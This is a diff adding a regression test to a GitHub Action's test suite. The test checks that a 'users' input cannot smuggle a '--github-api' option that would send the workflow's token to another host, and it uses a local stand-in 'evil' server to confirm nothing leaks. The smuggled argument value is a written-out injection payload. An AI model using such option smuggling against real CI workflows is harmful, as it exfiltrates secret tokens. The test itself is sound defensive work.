@@ -72,6 +72,27 @@ test('its command line builds the cards, with PNG, a team, users given with comm
   assert.equal(r.stdout.includes(STAND_IN_TOKEN) || r.stderr.includes(STAND_IN_TOKEN), false);
 });
 
+// `users: "pacoxu --github-api http://elsewhere"` set an option: the CLI sent the workflow's
+// token to that host.
+test('a login cannot smuggle an option: the token goes to no other host', async () => {
+  const { createServer } = await import('node:http');
+  const seen = [];
+  const evil = createServer((req, res) => {
+    seen.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
+    res.writeHead(404).end();
+  });
+  await new Promise((r) => evil.listen(0, '127.0.0.1', r));
+  try {
+    const out = join(mkdtempSync(join(tmpdir(), 'k8s-contrib-card-action-')), 'cards');
+    const r = await runStep({ users: `pacoxu --github-api http://127.0.0.1:${evil.address().port}`, out, token: 'ghp_secret-of-the-workflow' });
+    assert.equal(r.code, 2, r.stderr);
+    assert.match(r.stderr, /not a GitHub login: "--github-api"/);
+    assert.deepEqual(seen, [], 'nothing reached the other host');
+  } finally {
+    evil.close();
+  }
+});
+
 test('an input cannot smuggle a command into the script', async () => {
   const out = join(mkdtempSync(join(tmpdir(), 'k8s-contrib-card-action-')), 'cards');
   const marker = join(tmpdir(), `pwned-${process.pid}`);
